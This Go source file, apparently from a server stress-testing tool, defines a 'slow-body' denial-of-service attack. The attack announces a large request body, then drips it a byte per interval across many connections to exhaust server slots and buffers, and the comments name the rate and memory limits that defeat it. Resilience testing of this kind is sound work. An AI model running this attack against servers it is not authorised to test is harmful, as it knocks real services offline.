package attack

import (
	"time"

	"weir/bench/wire"
)

// slowBody announces a body or a frame of -frame bytes in one piece, then sends -size bytes of it at an interval. A line
// announces nothing and is dripped from its first byte.
//
//	attacker                        server
//	   | Content-Length: 65536 -----> |  a good request, worth a handler and a place among the proven
//	   | "a" -----------------------> |
//	   |      ... interval ...        |
//	   | "b" -----------------------> |  18 hours of work at a byte a second
//
// Unlike slowloris it is over the deadline for heads when it begins.
//
// Aimed at: connection slots, and whatever waits for a body: handlers, buffers of the announced size.
// What ought to stop it: a least rate for bodies, memory that follows what came and not what was announced.
var slowBody = Kind{
	Name:  "slow-body",
	Help:  "announces a body or frame and drips it a byte at an interval: aims at those who wait for it, and buffers",
	Units: "drips",
	takes: []string{"count", "size", "frame", "interval", "version", "sni"},
	defaults: Options{
		Conns: 1_000, Count: 50_000_000, Size: 1, Frame: 65_536, Interval: time.Second,
		Duration: 30 * time.Second, Sources: 20, Loops: 1, Nice: 10,
	},
	total: 1,
	check: checkDrip,
	loop: func(r *run) error {
		if err := r.inTLS(r.opts.Version); err != nil {
			return err
		}
		body, head, err := wire.NewBody(r.target, r.opts.Frame)
		if err != nil {
			return err
		}
		return newDripper(r, headFirst{body, head}, r.opts.Size).drip()
	},
}

// headFirst is a script whose first piece goes out whole.
type headFirst struct {
	script
	head int
}

func (h headFirst) Append(dst []byte, offset int64, n int) []byte {
	if offset < int64(h.head) {
		n = h.head - int(offset)
	}
	return h.script.Append(dst, offset, n)
}
